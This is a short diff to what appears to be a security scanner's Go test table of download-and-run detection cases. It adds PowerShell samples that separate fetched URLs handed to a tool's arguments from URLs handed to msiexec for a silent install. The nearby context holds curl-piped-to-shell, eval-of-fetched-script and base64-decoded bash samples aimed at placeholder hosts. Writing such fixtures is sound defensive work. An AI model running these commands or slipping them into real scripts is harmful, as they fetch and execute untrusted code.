@@ -68,6 +68,11 @@ var registry = []Rule{
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// PowerShell's call operator runs the program it names: fetched
+		// release data handed to a tool is its arguments; to a launcher
+		// (msiexec, a shell, an interpreter) it is what runs.
+		{"tools/up.ps1", "$r = Invoke-RestMethod -Uri \"https://api.x.invalid/releases/latest\"\n$u = $r.assets | ForEach-Object { $_.browser_download_url }\n& komac update Pkg --urls $u", 0, true},
+		{"tools/up.ps1", "$r = Invoke-RestMethod -Uri \"https://api.x.invalid/releases/latest\"\n$u = $r.assets | ForEach-Object { $_.browser_download_url }\n& msiexec /i $u /qn", 3, false},
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
